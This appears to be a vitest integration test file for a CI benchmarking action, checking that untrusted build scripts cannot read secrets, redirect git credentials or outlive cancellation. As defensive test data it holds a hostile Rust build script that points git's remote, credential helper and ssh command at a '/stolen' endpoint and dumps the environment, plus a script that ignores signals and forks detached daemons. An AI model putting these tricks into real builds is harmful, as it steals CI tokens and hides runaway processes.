import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { hostileProject } from '../support/hostile-project.ts';
import { TINY, table } from '../support/tiny-project.ts';
import { waitForFile } from '../support/wait-for-file.ts';
import { startWorld, type World } from '../support/world.ts';
import type { Run } from '../support/world-run.ts';

let world: World;
let notes = '';
beforeAll(async () => {
  notes = await mkdtemp(join(tmpdir(), 'tare-cage-'));
  world = await startWorld(hostileProject(notes));
});
afterAll(async () => {
  await world.close();
  await rm(notes, { recursive: true, force: true });
});

/** Milliseconds: every part of the project does all that it can, on a machine that may be loaded. */
const SLOW = 400_000;
const SECRETS = {
  environment: {
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'ghs_identity',
    DEPLOY_TOKEN: 'ghp_deploy',
    GITHUB_TOKEN: 'ghs_other',
    MY_SECRET: 'ghp_x',
  },
};
/** What may be left of the runner's names. */
const DESCRIBES_THE_RUN =
  /^(RUNNER_(ARCH|ENVIRONMENT|NAME|OS|TEMP|TOOL_CACHE|TRACKING_ID)|GITHUB_(ACTIONS|ACTOR|API_URL|(BASE|HEAD)_REF|EVENT_NAME|GRAPHQL_URL|JOB|REF|REF_NAME|REF_TYPE|REPOSITORY(_ID|_OWNER)?|RUN_(ATTEMPT|ID|NUMBER)|SERVER_URL|SHA|WORKFLOW|WORKSPACE))$/;

/** What every part noted: no secret by any way. That nothing is left running, and no foreign command was carried out, holds for every run. */
async function expectCaged(run: Run, parts: string[]): Promise<void> {
  const files = await readdir(notes);
  const seen = await Promise.all(
    files.map(async (file) => [file, await readFile(join(notes, file), 'utf8')] as const),
  );
  expect([...new Set(files.map((file) => file.replace(/-\d+$/, '')))].sort()).toEqual(
    expect.arrayContaining(parts),
  );
  for (const [file, text] of seen) {
    const names = [...text.matchAll(/^ENV (.*)$/gm)].map(([, name = '']) => name);
    const telling = names.filter((name) => /^(ACTIONS|INPUT|GITHUB|RUNNER|STATE)_|TOKEN|SECRET/.test(name));
    expect({ file, telling: telling.filter((name) => !DESCRIBES_THE_RUN.test(name)) }).toEqual({
      file,
      telling: [],
    });
    expect(text).not.toContain('LEAK');
    expect(text).toContain('LOOKED');
    expect(text).not.toContain('WROTE 0');
  }
  expect(run.env).toEqual({});
  expect(run.state).toEqual({});
  expect(JSON.stringify(run.outputs)).not.toContain('hostile"');
  expect(Object.keys(run.outputs)).not.toContain('hostile');
  expect(run.debug.join('\n')).not.toMatch(/^hostile/m);
  expect(run.groups.filter((title) => title.includes('hostile'))).toEqual([]);
  expect(run.annotations.filter(({ message }) => message.startsWith('hostile'))).toEqual([]);
  expect(run.summary).not.toContain('hostile=yes');
}

test(
  'on main: build scripts, macros, harnesses and commands that only numbers come from',
  async () => {
    const run = await world.pushToMain({ 'README.md': 'Recorded.\n' }, SECRETS);
    expect(run).toMatchObject({ status: 'success', exitCode: 0 });
    await expectCaged(run, ['build', 'harness', 'macro', 'numbers']);
  },
  SLOW,
);

test(
  'on a pull request: the stored base’s programs and the head’s, run in turn and under valgrind',
  async () => {
    const { number, run } = await world.openPullRequest(table(8192), SECRETS);
    expect(run).toMatchObject({ status: 'success', exitCode: 0 });
    await expectCaged(run, ['act', 'build', 'fail', 'harness', 'macro', 'numbers', 'prepare']);
    expect(run.report?.failed.map((row) => row.case)).toEqual(['bench fail']);
    expect(run.report?.failed[0]?.output).toContain('hostile');
    expect((await world.api.comments(number)).map(({ body }) => body)).toEqual([run.markdown]);
  },
  SLOW,
);

test('a build that takes too long to cancel politely is ended, with daemons of every kind', async () => {
  const marker = join(notes, 'stubborn');
  const tiny = await startWorld(TINY);
  try {
    const { run } = await tiny.openPullRequest(
      { 'build.rs': STUBBORN(marker) },
      { cancelAfter: waitForFile(marker) },
    );
    expect(run).toMatchObject({ status: 'cancelled', summary: null });
    expect(run.outputs).toEqual({});
  } finally {
    await tiny.close();
  }
});

const STUBBORN = (marker: string) => `use std::process::{Command, Stdio};
fn main() {
    let script = "trap '' TERM INT HUP; (setsid sh -c \\"trap '' TERM INT; sleep 300\\" &) & (trap '' INT; setsid --fork sleep 300) & sleep 300";
    let mut child = Command::new("sh").args(["-c", script]).stdin(Stdio::null()).spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(${JSON.stringify(marker)}, "ready").unwrap();
    child.wait().unwrap();
}
`;

test('a build that turns the checkout’s remote and git’s helpers elsewhere does not get the token', async () => {
  const closed = await startWorld(TINY, { private: true });
  try {
    const trap = join(notes, 'helper');
    const evil = `fn main() {
    let run = |args: &[&str]| { let _ = std::process::Command::new("git").args(args).status(); };
    run(&["config", "remote.origin.url", "${closed.api.url}/stolen"]);
    run(&["config", "url.${closed.api.url}/stolen/.insteadOf", "${closed.git.url}/"]);
    run(&["config", "credential.helper", "!env > ${trap}; true"]);
    run(&["config", "core.sshCommand", "env > ${trap}; false"]);
    run(&["config", "core.askPass", "${trap}"]);
}
`;
    const { run } = await closed.openPullRequest({ 'build.rs': evil });
    expect(run).toMatchObject({ status: 'success', exitCode: 0 });
    expect(run.report?.base?.source).toBe('rebuilt');
    expect(run.requests.filter(({ target }) => target.includes('stolen'))).toEqual([]);
    expect(await readdir(notes)).not.toContain('helper');
  } finally {
    await closed.close();
  }
});
